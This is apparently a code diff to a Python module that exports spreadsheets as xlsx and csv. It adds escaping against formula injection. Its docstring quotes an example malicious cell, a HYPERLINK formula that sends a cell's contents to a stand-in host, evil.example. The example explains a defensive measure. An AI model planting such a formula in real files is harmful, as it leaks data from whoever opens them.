@@ -1,5 +1,12 @@
-"""Spreadsheet (xlsx) exports in one look, streamed: a bold header row, amounts as numbers with two
-decimals, dates as dates (yyyy-mm-dd).
+"""Spreadsheet exports in one place: xlsx (streamed: a bold header row, amounts as numbers with two
+decimals, dates as dates yyyy-mm-dd) and csv (one dialect: UTF-8 with BOM, `;`, CRLF).
+
+Formula injection: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+would be run as a formula by Excel or LibreOffice when a user opens the file (e.g. a line text
+`=HYPERLINK("http://evil.example/?x="&A1;"Klicka")` written by a partner and opened by the city's
+approver). Every such text is written as a plain text cell in xlsx (with Excel's quote prefix) and
+with a leading `'` in csv. Numbers are never escaped: a negative amount stays a number. Every export
+of the application goes through `make_xlsx` / `make_csv`, so this is the only place the rule lives.
 
 openpyxl's write-only mode writes each row as it comes instead of keeping every cell of the
 workbook in memory, so an export of thousands of rows costs little more than writing them; only
@@ -7,6 +14,8 @@ the cells that need a style (header, amounts; dates get theirs from openpyxl) be
 Widths must be known before the rows: fixed ones, or `fitted_widths` of rows held in memory.
 """
 
+import csv
+import datetime as dt
 import io
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass, field
@@ -15,6 +24,51 @@ from typing import Any
 
 MONEY_FORMAT = "#,##0.00"
 CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value: Any) -> bool:
+    """True for a text that a spreadsheet program would read as a formula (or a DDE command)."""
+    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
+
+
+def _number(value: Any) -> Any:
+    """Numbers without a negative zero (`-0.00` becomes `0.00`)."""
+    if isinstance(value, Decimal | float) and value == 0:
+        return abs(value)
+    return value
+
+
+def csv_value(value: Any) -> str:
+    """One csv cell: amounts with a decimal point and two decimals, dates ISO 8601, formula-like text
+    with a leading `'`."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return str(value)
+    if isinstance(value, Decimal):
+        return f"{_number(value):.2f}"
+    if isinstance(value, int | float):
+        return str(_number(value))
+    if isinstance(value, dt.datetime):
+        return value.strftime("%Y-%m-%d %H:%M:%S")
+    if isinstance(value, dt.date):
+        return value.isoformat()
+    text = str(value)
+    return "'" + text if is_formula_like(text) else text
+
+
+def make_csv(rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None) -> bytes:
+    """The application's one csv dialect: UTF-8 with BOM, `;`-separated, CRLF line ends."""
+    buffer = io.StringIO()
+    buffer.write("\ufeff")
+    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
+    if header is not None:
+        writer.writerow([csv_value(v) for v in header])
+    for row in rows:
+        writer.writerow([csv_value(v) for v in row])
+    return buffer.getvalue().encode("utf-8")
 
 
 @dataclass
@@ -26,6 +80,7 @@ class Sheet:
     rows: Iterable[Sequence[Any]]
     widths: Mapping[str, float] = field(default_factory=dict)  # column letter → width
     freeze_header: bool = False
+    caption: str = ""  # an optional bold first row above the header (e.g. the table's title)
 
 
 def column_widths(widths: Sequence[float]) -> dict[str, float]:
@@ -48,7 +103,6 @@ def fitted_widths(rows: Sequence[Sequence[Any]], *, minimum: int = 10, maximum: 
 
 def make_xlsx(sheets: Iterable[Sheet], *, title: str = "") -> bytes:
     from openpyxl import Workbook
-    from openpyxl.cell import WriteOnlyCell
     from openpyxl.styles import Font
 
     workbook = Workbook(write_only=True)
@@ -61,12 +115,28 @@ def make_xlsx(sheets: Iterable[Sheet], *, title: str = "") -> bytes:
             ws.column_dimensions[letter].width = width
         if sheet.freeze_header:
             ws.freeze_panes = "A2"
-        ws.append([_style(WriteOnlyCell(ws, value), font=bold) for value in sheet.header])
+        if sheet.caption:
+            ws.append([_cell(ws, sheet.caption, font=bold)])
+        ws.append([_cell(ws, value, font=bold) for value in sheet.header])
         for row in sheet.rows:
-            ws.append([_style(WriteOnlyCell(ws, v)) if isinstance(v, Decimal) else v for v in row])
+            ws.append([_cell(ws, v) if isinstance(v, Decimal | str) else _number(v) for v in row])
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+def _cell(ws: Any, value: Any, *, font: Any = None) -> Any:
+    from openpyxl.cell import WriteOnlyCell
+
+    if is_formula_like(value):
+        cell = WriteOnlyCell(ws, value)
+        cell.data_type = "s"  # openpyxl would store a text starting with "=" as a formula
+        cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
+    elif isinstance(value, str) and not font:
+        return value  # plain text needs no cell object
+    else:
+        cell = WriteOnlyCell(ws, _number(value))
+    return _style(cell, font=font)
 
 
 def _style(cell: Any, *, font: Any = None) -> Any:
